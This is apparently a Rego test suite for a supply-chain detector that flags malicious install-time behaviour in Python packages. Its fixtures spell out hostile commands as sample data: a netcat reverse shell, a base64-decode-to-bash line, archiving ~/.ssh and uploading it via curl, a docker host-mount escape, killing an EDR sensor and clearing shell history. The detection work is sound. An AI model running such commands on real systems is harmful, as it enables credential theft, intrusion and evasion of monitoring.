package pip_witness.attack_sequences_test # regal ignore:file-length

import data.pip_witness.attack_sequences
import data.pip_witness.lib.fixture

import rego.v1

_messages(document) := messages if {
	# regal ignore:with-outside-test-context
	messages := attack_sequences.deny with input as document
}

_found(processes) := fixture.findings(_messages(fixture.install(processes)))

_imported(processes) := fixture.findings(_messages(fixture.imported(processes)))

# As fixture.install, where the sinkhole received what was sent.
_sunk(processes) := object.union(
	fixture.install(processes),
	{"coverage": object.union(fixture.coverage, {"sandbox": object.union(
		fixture.sandbox,
		{"resolver": "198.19.255.53"},
	)})},
)

# A process of a build by its number, under the one that builds.
_child(pid, more) := fixture.process("build-child", object.union({"processid": pid, "parentpid": 9}, more))

_ran(pid, program, args) := _child(pid, {"program": program, "execs": fixture.ran(program, args)})

_builder := fixture.process("build-child", {"execs": fixture.ran(fixture.python, ["/opt/hook.py"])})

_connected(pid) := _child(pid, {"network": {"connections": [fixture.connection("198.51.100.10", 443)]}})

_stream := fixture.connection("198.51.100.10", 443)

_cloud := {"/root/.aws/credentials": {"sha256": "c1"}}

test_quiet_installer if {
	_found([]) == set()
	_messages({}) == set()
}

# Two processes, one reads and one sends, in whichever order.
test_cred_then_connect if {
	reader := _child(10, {"openedfiles": _cloud})
	_found([_builder, reader, _connected(11)]) == {"CRITICAL:SEQ_CRED_THEN_CONNECT"}

	# regal ignore:line-length
	_found([_builder, _connected(10), _child(11, {"openedfiles": {"/root/.ssh/id_rsa": {}}})]) == {"CRITICAL:SEQ_CRED_THEN_CONNECT"}
	_found([_builder, reader]) == set()
	_found([_builder, _connected(10)]) == set()
	harness := fixture.harness({
		"openedfiles": _cloud,
		"network": {"connections": [_stream]},
	})
	_imported([harness]) == {"CRITICAL:SEQ_CRED_THEN_CONNECT"}
}

# A name that is asked carries data too; the index of the run is a way out.
test_cred_then_name if {
	reader := _child(10, {"openedfiles": _cloud})
	asker := _child(11, {"network": {"dnsLookups": [{"query": "c1.example."}, {"serverPort": 53}]}})
	_found([_builder, reader, asker]) == {"CRITICAL:SEQ_CRED_THEN_CONNECT"}
	index := _child(11, {"network": {"connections": [fixture.connection("127.0.0.1", 40123)]}})
	_found([_builder, reader, index]) == {"CRITICAL:SEQ_CRED_THEN_CONNECT"}
	loopback := _child(11, {"network": {"connections": [fixture.connection("127.0.0.1", 8126)]}})
	_found([_builder, reader, loopback]) == set()
	named := object.union(_stream, {"hostname": "c1.example"})
	both := _child(11, {"network": {"connections": [named], "dnsLookups": [{"query": "C1.example"}]}})
	messages := _messages(fixture.install([_builder, reader, both]))
	count(messages) == 1
}

# gh takes it to the victim's own account, without a connection that is seen.
test_cred_then_courier if {
	reader := _child(10, {"openedfiles": _cloud})
	messages := _messages(fixture.install([_builder, reader, _ran(11, "/usr/bin/gsutil", ["cp", "x", "gs://y"])]))
	fixture.findings(messages) == {"CRITICAL:SEQ_CRED_THEN_CONNECT"}
}

# What the build took, the import sends.
test_cred_over_steps if {
	base := fixture.imported([fixture.harness({"network": {"connections": [_stream]}})])
	document := object.union(base, {
		"coverage": object.union(fixture.coverage, {"sandbox": object.union(
			fixture.sandbox,
			{"decoys": [{"path": "/root/.aws/credentials", "canary": "k"}]},
		)}),
		"steps": {"pip-install": {"command-run": {"processes": [
			fixture.installer,
			_child(10, {"openedfiles": _cloud}),
		]}}},
	})
	fixture.findings(_messages(document)) == {"CRITICAL:SEQ_CRED_THEN_CONNECT"}
}

# pip and netrc; an honest build without credentials of weight.
test_quiet_netrc if {
	_found([_builder, _child(10, {"openedfiles": {"/root/.gitconfig": {"sha256": "aa"}}}), _connected(11)]) == set()
}

test_canary_leak if {
	leaking := _child(10, {"network": {"flows": [{
		"protocol": "tcp",
		"address": "198.51.100.10",
		"port": 443,
		"bytes": 10,
		"canaries": ["/root/.aws/credentials"],
	}]}})
	_found([_builder, leaking]) == {"CRITICAL:SEQ_CANARY_LEAK"}
	document := object.union(
		fixture.install([_builder, _ran(10, "/usr/bin/printf", ["x-canary-x"])]),
		{"coverage": object.union(fixture.coverage, {"sandbox": object.union(
			fixture.sandbox,
			{"decoys": [{"variable": "TOKEN", "canary": "canary"}, {"variable": "OTHER", "canary": "unseen"}]},
		)})},
	)
	fixture.findings(_messages(document)) == {"CRITICAL:SEQ_CANARY_LEAK"}
}

test_imds_then_connect if {
	asking := _child(10, {"network": {"connections": [fixture.connection("169.254.169.254", 80)]}})
	_found([_builder, asking, _connected(11)]) == {"CRITICAL:SEQ_IMDS_THEN_CONNECT"}
	_found([_builder, asking]) == set()
}

_writing(path) := _child(10, {
	"execs": fixture.ran(fixture.python, ["fetch.py"]),
	"fileOps": {"writes": [{"path": path, "timestamp": "2026-11-23T10:00:07Z"}]},
	"network": {"connections": [_stream]},
})

test_download_exec if {
	maker := _writing("/tmp/.x")
	_found([_builder, maker, _ran(11, "/tmp/.x", [])]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}
	_found([_builder, maker, _ran(11, "/bin/sh", ["/tmp/.x"])]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}

	# regal ignore:line-length
	_found([_builder, maker, _ran(11, "/lib64/ld-linux-x86-64.so.2", ["/tmp/.x"])]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}

	# regal ignore:line-length
	_found([_builder, maker, _ran(11, "/bin/sh", ["-c", "nohup python3 /tmp/.x &"])]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}
	relative := _child(11, {
		"program": "/bin/sh",
		"execs": fixture.ran("/bin/sh", ["./.x"]),
		"openedfiles": {"/tmp/.x": {"sha256": "aa"}},
	})
	_found([_builder, maker, relative]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}
	_found([_builder, maker]) == set()
	_found([_builder, maker, _ran(11, "/usr/bin/true", [])]) == set()
}

test_download_ways if {
	moved := _child(10, {
		"fileOps": {
			# regal ignore:line-length
			"renames": [{"oldPath": "/tmp/y", "newPath": "/tmp/.x"}, {"oldPath": "/tmp/y", "newPath": "/tmp/.z", "errno": "EPERM"}],
			"links": [{"target": "/tmp/y", "path": "/tmp/.l", "symbolic": false}],
		},
		"network": {"connections": [_stream]},
	})
	_found([_builder, moved, _ran(11, "/tmp/.x", [])]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}
	_found([_builder, moved, _ran(11, "/tmp/.l", [])]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}
	_found([_builder, moved, _ran(11, "/tmp/.z", [])]) == set()
	memory := _ran(11, "/memfd:x (deleted)", [])
	_found([_builder, _connected(10), memory]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}
	_found([_builder, _connected(10), _ran(11, "memfd:x", [])]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}
	_found([_builder, _connected(10), _ran(11, "/proc/self/fd/5", [])]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}
	library := _child(10, {
		"fileOps": {"writes": [{"path": "/tmp/x.so"}]},
		"openedfiles": {"/tmp/x.so": {"sha256": "aa"}},
		"network": {"connections": [_stream]},
	})
	_found([_builder, library]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}
	_found([_builder, _child(10, {"fileOps": {"writes": [{"path": 7}]}})]) == set()
}

# Without a contact it is a file of its own; a program that downloads is a contact.
test_drop_severity if {
	offline := object.remove(_writing("/var/tmp/a"), ["network"])
	_found([_builder, offline, _ran(11, "/bin/sh", ["/var/tmp/a"])]) == {"HIGH:SEQ_DOWNLOAD_CHMOD_EXEC"}
	fetched := _ran(12, "/usr/bin/curl", ["-o", "/var/tmp/a", "https://198.51.100.10/a"])
	_found([_builder, offline, _ran(11, "/bin/sh", ["/var/tmp/a"]), fetched]) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}
}

# The installer's build directory, as it makes it.
_in_build(processes) := object.union(
	{"step": {"name": "pip-install"}, "coverage": fixture.coverage},
	{"processes": array.concat(
		# regal ignore:line-length
		[object.union(fixture.installer, {"fileOps": {"dirs": [{"path": "/tmp/pip-req-build-x", "kind": "directory"}]}})],
		processes,
	)},
)

# configure, cmake and cargo make programs and run them; one of them fetches sources.
test_quiet_builds if {
	scripts := _child(10, {
		"program": "/bin/sh",
		"execs": fixture.ran("/bin/sh", ["./configure"]),
		"fileOps": {"writes": [{"path": "/tmp/pip-req-build-x/config.status"}]},
	})
	running := _ran(11, "/bin/sh", ["/tmp/pip-req-build-x/config.status"])
	_messages(_in_build([_builder, scripts, running])) == set()
	_messages(_in_build([_builder, scripts, running, _connected(12)])) == set()
	linked := _child(10, {
		"program": "/usr/bin/ld",
		"execs": fixture.ran("/usr/bin/ld", ["-o", "/tmp/tmpx/a.out"]),
		"fileOps": {"writes": [{"path": "/tmp/tmpx/a.out"}], "deletes": [{"path": "/tmp/tmpx/a.out"}]},
	})
	_messages(_in_build([_builder, linked, _ran(11, "/tmp/tmpx/a.out", []), _connected(12)])) == set()
	driver := object.union(_ran(10, "/root/.cargo/bin/cargo", ["build"]), {"fileOps": {"links": [{
		"target": "/tmp/pip-req-build-x/target/build-script-build-1",
		"path": "/tmp/pip-req-build-x/target/build-script-build",
		"symbolic": false,
	}]}})
	script := _ran(11, "/tmp/pip-req-build-x/target/build-script-build", [])
	_messages(_in_build([_builder, driver, script, _connected(12)])) == set()
	copied := object.union(_ran(13, "/usr/bin/cp", ["a.out", "tool"]), {
		"parentpid": 12,
		"fileOps": {"writes": [{"path": "/tmp/tmpx/tool"}]},
	})

	# regal ignore:line-length
	_messages(_in_build([_builder, _ran(12, "/usr/bin/make", ["all"]), copied, _ran(14, "/tmp/tmpx/tool", [])])) == set()
}

# Who made the file in the build directory reached out itself.
test_download_into_build if {
	fetching := _writing("/tmp/pip-req-build-x/tool")
	document := _in_build([_builder, fetching, _ran(11, "/tmp/pip-req-build-x/tool", [])])
	fixture.findings(_messages(document)) == {"CRITICAL:SEQ_DOWNLOAD_CHMOD_EXEC"}

	# regal ignore:line-length
	curl := object.union(_ran(10, "/usr/bin/curl", ["-o", "tool", "x.example"]), {"fileOps": {"writes": [{"path": "/tmp/pip-req-build-x/tool"}]}})
	by_curl := _in_build([_builder, curl, _ran(11, "/tmp/pip-req-build-x/tool", [])])
	fixture.findings(_messages(by_curl)) == {"HIGH:SEQ_DOWNLOAD_CHMOD_EXEC"}
}

# A shell that calls a compiler has not compiled what it wrote, nor has a compiler that
# the package brought.
test_false_compilers if {
	shell := _child(10, {
		"program": "/usr/bin/gcc",
		"execs": array.concat(fixture.ran("/bin/sh", ["-c", "x"]), fixture.ran("/usr/bin/gcc", ["--version"])),
		"fileOps": {"writes": [{"path": "/tmp/.x"}]},
	})
	_found([_builder, shell, _ran(11, "/tmp/.x", [])]) == {"HIGH:SEQ_DOWNLOAD_CHMOD_EXEC"}
	own := _child(10, {
		"program": "/tmp/gcc",
		"execs": fixture.ran("/tmp/gcc", []),
		"fileOps": {"writes": [{"path": "/tmp/gcc"}, {"path": "/tmp/.x"}]},
	})
	"HIGH:SEQ_DOWNLOAD_CHMOD_EXEC" in _found([_builder, own, _ran(11, "/tmp/.x", [])])
}

# Shared memory, trampolines, probes and byte code: made and removed, never run.
test_quiet_temporary_files if {
	paths := ["/dev/shm/sem.abc", "/tmp/ffiXyz", "/tmp/tmpab/probe", "/tmp/ccX.o", "/tmp/__pycache__/x.pyc"]
	harness := fixture.harness({"fileOps": {
		"writes": [{"path": path, "created": true} | some path in paths],
		"deletes": [{"path": path} | some path in paths],
	}})
	_imported([harness]) == set()
}

_tar := _ran(10, "/usr/bin/tar", ["czf", "/tmp/s.tgz", "/root/.ssh"])

test_archive_encrypt_upload if {
	openssl := _ran(11, "/usr/bin/openssl", ["enc", "-aes-256-cbc", "-in", "/tmp/s.tgz"])
	_found([_builder, _tar, openssl, _connected(12)]) == {"CRITICAL:SEQ_ARCHIVE_ENCRYPT_UPLOAD"}
	curl := _ran(12, "/usr/bin/curl", ["--data-binary", "@/tmp/s.enc", "https://198.51.100.10/"])
	_found([_builder, _tar, openssl, curl]) == {"CRITICAL:SEQ_ARCHIVE_ENCRYPT_UPLOAD"}
	_found([_builder, _tar, openssl]) == set()
	decrypt := _ran(11, "/usr/bin/openssl", ["enc", "-d", "-in", "/tmp/s.tgz"])
	_found([_builder, _tar, decrypt, _connected(12)]) == set()
	module := _ran(10, "/usr/bin/python3", ["-m", "zipfile", "-c", "/tmp/x", "/root"])

	# regal ignore:line-length
	cipher := _child(11, {"openedfiles": {"/root/venv/lib/python3.11/site-packages/cryptography/hazmat/bindings/_rust.abi3.so": {"sha256": "aa"}}})
	_found([_builder, module, cipher, _connected(12)]) == {"CRITICAL:SEQ_ARCHIVE_ENCRYPT_UPLOAD"}
}

test_archive_upload if {
	post := {"protocol": "tcp", "address": "198.51.100.10", "port": 80, "bytes": 900, "httpRequest": "POST /u"}
	_found([_builder, _tar, _child(11, {"network": {"flows": [post]}})]) == {"HIGH:SEQ_ARCHIVE_UPLOAD"}
	much := object.union(post, {"httpRequest": "", "bytes": 90000})
	_found([_builder, _tar, _child(11, {"network": {"flows": [much]}})]) == {"HIGH:SEQ_ARCHIVE_UPLOAD"}
	get := object.union(post, {"httpRequest": "GET /u"})
	_found([_builder, _tar, _child(11, {"network": {"flows": [get]}})]) == set()
	_found([_builder, _ran(10, "/usr/bin/tar", ["xzf", "s.tgz"]), _child(11, {"network": {"flows": [post]}})]) == set()
	written := _child(10, {"fileOps": {"writes": [{"path": "/tmp/love.tar.gz"}]}, "openedfiles": _cloud})
	found := _found([_builder, written, _connected(11)])
	{"HIGH:SEQ_ARCHIVE_UPLOAD", "CRITICAL:SEQ_CRED_THEN_CONNECT"} - found == set()
}

# A build that fetches an archive and unpacks it.
test_quiet_fetched_archive if {
	fetching := _child(10, {
		"network": {"connections": [_stream], "flows": [{
			"protocol": "tcp",
			"address": "198.51.100.10",
			"port": 80,
			"bytes": 9000,
			"httpRequest": "GET /a",
		}]},
		"fileOps": {"writes": [{"path": "/tmp/src.tar.gz", "timestamp": "2026-11-23T10:00:09Z"}]},
	})
	_found([_builder, fetching]) == set()
}

test_drop_persist_start if {
	unit := _child(10, {"fileOps": {"writes": [{"path": "/root/.config/systemd/user/a.service"}]}})

	# regal ignore:line-length
	_found([_builder, unit, _ran(11, "/usr/bin/systemctl", ["--user", "enable", "a"])]) == {"CRITICAL:SEQ_DROP_PERSIST_START"}
	_found([_builder, unit]) == set()
	shim := _child(10, {"fileOps": {"writes": [{"path": "/root/.local/bin/x"}]}})
	"CRITICAL:SEQ_DROP_PERSIST_START" in _found([_builder, shim, _ran(11, "/root/.local/bin/x", [])])
	project := _child(10, {"fileOps": {"writes": [{"path": "/root/project/.git/hooks/pre-commit"}]}})
	_found([_builder, project, _ran(11, "/usr/bin/systemctl", ["start", "a"])]) == set()
}

test_decode_exec if {
	_found([_builder, _ran(10, "/bin/sh", ["-c", "echo eA== | base64 -d | bash"])]) == {"CRITICAL:SEQ_DECODE_EXEC"}
	_found([_builder, _ran(10, "/bin/sh", ["-c", "base64 -d x > y"])]) == set()
	beside := [_builder, _ran(10, "/usr/bin/base64", ["--decode"]), _ran(11, "/usr/bin/python3", ["-"])]
	_found(beside) == {"CRITICAL:SEQ_DECODE_EXEC"}
	coded := _ran(10, "/usr/bin/python3", ["-c", "import base64;exec(base64.b64decode('eA=='))"])
	_found([_builder, coded]) == {"CRITICAL:SEQ_DECODE_EXEC"}
	_found([_builder, _ran(10, "/usr/bin/python3", ["-c", "import base64;print(base64.b64encode(b'x'))"])]) == set()
	_found([_builder, _ran(10, "/usr/bin/python3", [
		"-c",
		"from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5)",
	])]) == set()
}

test_reverse_shell if {
	# regal ignore:line-length
	own := _child(10, {"program": "/bin/sh", "execs": fixture.ran("/bin/sh", ["-i"]), "network": {"connections": [_stream]}})
	_found([_builder, own]) == {"CRITICAL:SEQ_REVERSE_SHELL"}
	parent := _child(10, {"network": {"connections": [_stream]}})
	shell := _child(11, {
		"parentpid": 10,
		"program": "/bin/bash",
		"execs": fixture.ran("/bin/bash", []),
		"syscallEvents": [{"syscall": "dup2", "detail": "", "args": [7, 0]}],
	})
	_found([_builder, parent, shell]) == {"CRITICAL:SEQ_REVERSE_SHELL"}
	netcat := _ran(10, "/usr/bin/nc", ["-e", "/bin/sh", "198.51.100.66", "4444"])
	"CRITICAL:SEQ_REVERSE_SHELL" in _found([_builder, netcat])
}

test_shell_bridge if {
	# regal ignore:line-length
	pump := _child(10, {"network": {"connections": [_stream]}, "fileOps": {"opens": [{"path": "/dev/ptmx", "mode": "readwrite"}]}})
	shell := _child(11, {"parentpid": 10, "program": "/bin/bash", "execs": fixture.ran("/bin/bash", [])})
	messages := _messages(fixture.install([_builder, pump, shell]))
	fixture.findings(messages) == {"HIGH:SEQ_SHELL_BRIDGE"}
	some message in messages
	contains(message, "terminal of its own")
	pipes := object.remove(pump, ["fileOps"])
	_found([_builder, pipes, shell]) == {"HIGH:SEQ_SHELL_BRIDGE"}
	script := _child(11, {"parentpid": 10, "program": "/bin/sh", "execs": fixture.ran("/bin/sh", ["-c", "make"])})
	_found([_builder, pipes, script]) == set()
}

_named(host) := _child(11, {"network": {"connections": [object.union(_stream, {"hostname": host})]}})

test_token_publish if {
	token := _child(10, {"openedfiles": {"/root/.pypirc": {"sha256": "aa"}}})
	"CRITICAL:SEQ_TOKEN_PUBLISH" in _found([_builder, token, _ran(11, "/usr/bin/twine", ["upload", "x"])])
	"CRITICAL:SEQ_TOKEN_PUBLISH" in _found([_builder, token, _named("upload.example")])
	"CRITICAL:SEQ_TOKEN_PUBLISH" in _found([_builder, token, _named("somebody.example")])
	github := _child(10, {"openedfiles": {"/root/.config/gh/hosts.yml": {"sha256": "aa"}}})
	"CRITICAL:SEQ_TOKEN_PUBLISH" in _found([_builder, github, _named("api.github.com")])
	_found([_builder, github, _named("somebody.example")]) == {"CRITICAL:SEQ_CRED_THEN_CONNECT"}
	index := _child(11, {"network": {"connections": [fixture.connection("127.0.0.1", 40123)]}})
	"CRITICAL:SEQ_TOKEN_PUBLISH" in _found([_builder, token, index])
	_found([_builder, token]) == set()
}

test_self_propagate if {
	neighbour := concat("/", [fixture.site, "requests/__init__.py"])
	_imported([fixture.harness({"fileOps": {"writes": [{"path": neighbour}]}})]) == {"CRITICAL:SEQ_SELF_PROPAGATE"}

	# regal ignore:line-length
	_imported([fixture.harness({"fileOps": {"writes": [{"path": concat("/", [fixture.site, "x/_cache.py"]), "created": true}]}})]) == set()
	manifest := _child(10, {"fileOps": {"writes": [{"path": "/root/work/package.json"}]}})
	_found([_builder, manifest, _ran(11, "/usr/bin/npm", ["publish"])]) == {"CRITICAL:SEQ_SELF_PROPAGATE"}
	_found([_builder, manifest]) == set()
}

test_recon_then_connect if {
	asked := [_ran(10, "/usr/bin/whoami", []), _ran(11, "/usr/bin/id", [])]
	_found(array.concat([_builder, _connected(12)], asked)) == {"HIGH:SEQ_RECON_THEN_CONNECT"}
	_found(array.concat([_builder], asked)) == set()
	builds := [_ran(10, "/usr/bin/uname", ["-m"]), _ran(11, "/usr/bin/hostname", []), _ran(13, "/usr/bin/lscpu", [])]
	_found(array.concat([_builder, _connected(12)], builds)) == set()
}

test_antiforensics if {
	gone := _child(10, {"fileOps": {"writes": [{"path": "/tmp/k"}], "deletes": [{"path": "/tmp/k"}]}})
	"HIGH:SEQ_ANTIFORENSICS" in _found([_builder, gone, _ran(11, "/tmp/k", [])])
	_found([_builder, gone]) == set()

	# regal ignore:line-length
	_found([_builder, _child(10, {"fileOps": {"writes": [{"path": "/root/.bash_history"}]}})]) == {"HIGH:SEQ_ANTIFORENSICS"}

	# regal ignore:line-length
	_found([_builder, _child(10, {"fileOps": {"deletes": [{"path": "/var/log/wtmp", "errno": "EACCES"}]}})]) == {"HIGH:SEQ_ANTIFORENSICS"}
	_found([_builder, _child(10, {"fileOps": {"writes": [{"path": "/var/log/acme.log"}]}})]) == set()
	_found([_builder, _ran(10, "/usr/bin/shred", ["-u", "x"])]) == {"HIGH:SEQ_ANTIFORENSICS"}
	_found([_builder, _ran(10, "/bin/sh", ["-c", "history -c; unset HISTFILE"])]) == {"HIGH:SEQ_ANTIFORENSICS"}

	# regal ignore:line-length
	_imported([fixture.harness({"fileOps": {"deletes": [{"path": concat("/", [fixture.site, "demo-init.pth"])}]}})]) == {"HIGH:SEQ_ANTIFORENSICS"}
}

# A build that replaces its own setup.py, by writing, by renaming or by removing it.
test_rewritten_sources if {
	source := "/tmp/pip-req-build-x/setup.py"
	read := {"openedfiles": {source: {"sha256": "aa"}}}
	every operations in [
		{"writes": [{"path": source}]},
		{"deletes": [{"path": source}]},
		{"renames": [{"oldPath": "/tmp/pip-req-build-x/y", "newPath": source}]},
	] {
		document := _in_build([_builder, _child(10, object.union(read, {"fileOps": operations}))])
		fixture.findings(_messages(document)) == {"HIGH:SEQ_ANTIFORENSICS"}
	}
	generated := _child(10, object.union(read, {"fileOps": {"writes": [{"path": source, "created": true}]}}))
	_messages(_in_build([_builder, generated])) == set()
}

test_disable_then_exec if {
	stopped := _ran(10, "/usr/bin/pkill", ["-9", "falcon-sensor"])
	_found([_builder, stopped, _connected(11)]) == {"CRITICAL:SEQ_DISABLE_THEN_EXEC"}
	_found([_builder, stopped]) == set()
	fetched := _ran(11, "/usr/bin/wget", ["https://198.51.100.10/x"])
	_found([_builder, stopped, fetched]) == {"CRITICAL:SEQ_DISABLE_THEN_EXEC"}
	maker := _child(11, {"fileOps": {"writes": [{"path": "/tmp/m"}]}})
	"CRITICAL:SEQ_DISABLE_THEN_EXEC" in _found([_builder, stopped, maker, _ran(12, "/tmp/m", [])])
	_found([_builder, _ran(10, "/usr/bin/pkill", ["-f", "acme"]), _connected(11)]) == set()
}

_left := {"syscallEvents": [{"syscall": "setsid", "detail": "", "args": []}], "exitcode": 0}

test_double_fork if {
	forked := _child(10, _left)
	survivor := _child(11, {"parentpid": 10})
	_found([_builder, forked, survivor]) == {"HIGH:SEQ_DOUBLE_FORK_SURVIVOR"}
	_found([_builder, forked]) == set()
	_found([_builder, object.remove(forked, ["exitcode"]), survivor]) == set()
	session := object.union(_ran(10, "/usr/bin/make", []), _left)
	_found([_builder, session, survivor]) == set()
	server := object.union(forked, {"program": "/usr/bin/sccache"})
	_found([_builder, server, survivor]) == set()
	fake := object.union(forked, {"program": "/tmp/sccache"})
	_found([_builder, fake, survivor]) == {"HIGH:SEQ_DOUBLE_FORK_SURVIVOR"}
}

test_staged_secret if {
	same := _child(10, {
		"openedfiles": _cloud,
		"fileOps": {"writes": [{"path": "/tmp/.cache"}, {"path": "/dev/null"}, {"path": "relative"}]},
	})
	_found([_builder, same]) == {"HIGH:SEQ_STAGED_SECRET_FILE"}
	reader := _child(10, {"openedfiles": _cloud})
	copy := _child(11, {"writtenDigests": {"/srv/copy": {"sha256": "c1"}, "/srv/other": {"sha256": "c2"}}})
	messages := _messages(fixture.install([_builder, reader, copy]))
	fixture.findings(messages) == {"HIGH:SEQ_STAGED_SECRET_FILE"}
	every message in messages {
		contains(message, "whose content it has")
	}

	# regal ignore:non-loop-expression
	_found([_builder, _child(10, {
		"openedfiles": {"/root/.aws/credentials": {}},
		"fileOps": {"writes": [{"path": "/tmp/x"}]},
	})]) == set()
}

test_escape_chain if {
	socket := {"syscall": "connect", "family": "AF_UNIX", "address": "/var/run/docker.sock"}
	door := _child(10, {"network": {"connections": [socket]}})

	# regal ignore:line-length
	_found([_builder, door, _child(11, {"openedfiles": {"/proc/1/root/etc/hostname": {}}})]) == {"CRITICAL:SEQ_ESCAPE_CHAIN"}
	_found([_builder, door]) == set()
	mounting := _child(10, {"syscallEvents": [{"syscall": "mount", "detail": "", "args": []}]})
	opening := _child(11, {"fileOps": {"opens": [{"path": "/hostfs/etc/shadow", "mode": "read", "errno": "ENOENT"}]}})
	_found([_builder, mounting, opening]) == {"CRITICAL:SEQ_ESCAPE_CHAIN"}
	_found([_builder, _ran(10, "/usr/bin/docker", ["run", "-v", "/:/mnt", "alpine"])]) == {"CRITICAL:SEQ_ESCAPE_CHAIN"}
	_found([_builder, _ran(10, "/usr/bin/docker", ["--version"])]) == set()
}

# Evidence of other tools: no roles, no attempts, no sandbox.
test_other_tools if {
	bare := {"processes": [
		{"program": "/usr/bin/python3", "processid": 1, "parentpid": 0, "cmdline": "python3 -m pip install x"},
		{
			"program": "/usr/bin/python3",
			"processid": 2,
			"parentpid": 1,
			"cmdline": "python3 x.py",
			"openedfiles": {"/root/.aws/credentials": {"sha256": "aa"}},
			"network": {"connections": [_stream]},
		},
	]}
	fixture.findings(_messages(bare)) == {"CRITICAL:SEQ_CRED_THEN_CONNECT"}
	_messages({"processes": [{"fileOps": "x", "execs": "y", "processid": "z"}, {}]}) == set()
}

test_not_evaluated if {
	count(attack_sequences.not_evaluated) == 0 with input as fixture.install([])
	unseen := attack_sequences.not_evaluated with input as fixture.install([_connected(10)])
	"SEQ_TOKEN_PUBLISH: what was sent, and the names that were asked, are not in the evidence" in unseen
	count(attack_sequences.not_evaluated) == 0 with input as _sunk([_connected(10)])
	blind := attack_sequences.not_evaluated with input as {"processes": [], "coverage": {"trapped": ["execve"]}}
	"SEQ_DOUBLE_FORK_SURVIVOR: not observed: clone, clone3, setsid" in blind
}

# What a package chooses cannot end its quotes or start another finding.
test_hostile_text if {
	name := "/tmp/\"x\nCRITICAL:FORGED: \u001b[2J"
	messages := _messages(fixture.install([_builder, _writing(name), _ran(11, name, ["\nCRITICAL:FORGED: y"])]))
	count(messages) == 1
	every message in messages {
		not contains(message, "\n")
		not contains(message, "\u001b")
	}
}
